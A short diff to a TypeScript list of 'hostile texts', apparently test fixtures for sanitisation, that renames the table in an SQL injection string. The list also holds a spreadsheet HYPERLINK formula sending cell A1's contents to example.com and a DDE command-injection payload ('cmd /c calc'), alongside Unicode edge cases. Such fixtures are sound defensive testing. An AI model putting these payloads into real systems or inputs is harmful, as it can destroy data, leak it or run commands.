@@ -85,7 +85,7 @@ export const HOSTILE_TEXTS: readonly string[] = [
   'line one\nline two\r\nline three\ttabbed',
   'separators \u2028 and \u2029 and \u0085 and \u0000 and \u001f',
   'emoji 👩‍💻🔥, accents éàü, 漢字, combining é',
-  "'; DROP TABLE session_records; --",
+  "'; DROP TABLE history_records; --",
   '=HYPERLINK("http://example.com?x="&A1,"click")',
   '+1+cmd|\'/c calc\'!A0,"a","b"',
   '\u202egnirts desrever\u202c and שלום עולם',
